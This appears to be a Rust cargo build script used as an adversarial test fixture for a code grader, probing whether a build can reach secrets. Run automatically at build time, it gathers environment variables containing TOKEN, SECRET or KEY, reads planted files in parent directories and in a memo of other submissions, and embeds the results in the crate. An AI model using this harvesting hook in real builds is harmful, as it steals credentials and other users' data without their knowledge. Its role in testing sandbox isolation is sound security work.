//! Reads the build's environment for secrets, and the files the test planted next to the
//! grader's cache and in its memo of builds (where other submissions' drivers are kept), and
//! hands what it found to the crate.
use std::path::{Path, PathBuf};

const PLANTED: &str = "mpi-grade-adversarial-planted";

fn main() {
    let mut found: Vec<String> = std::env::vars()
        .filter(|(k, _)| k.contains("TOKEN") || k.contains("SECRET") || k.contains("KEY"))
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    // The submission's copy and the build's target directory are in the grader's cache: look
    // in every directory above them, and in a `memo` beside each.
    let mut dirs: Vec<PathBuf> = Vec::new();
    for var in ["CARGO_MANIFEST_DIR", "OUT_DIR"] {
        if let Ok(path) = std::env::var(var) {
            dirs.extend(Path::new(&path).ancestors().map(Path::to_path_buf));
        }
    }
    for dir in dirs {
        for place in [dir.join(PLANTED), dir.join("memo").join(PLANTED)] {
            if let Ok(text) = std::fs::read_to_string(&place) {
                found.push(format!("{}: {}", place.display(), text.trim()));
            }
        }
    }
    println!("cargo:warning=secrets at build time: {found:?}");
    println!("cargo:rustc-env=ADVERSARIAL_BUILD_SECRETS={}", found.join(";"));
}
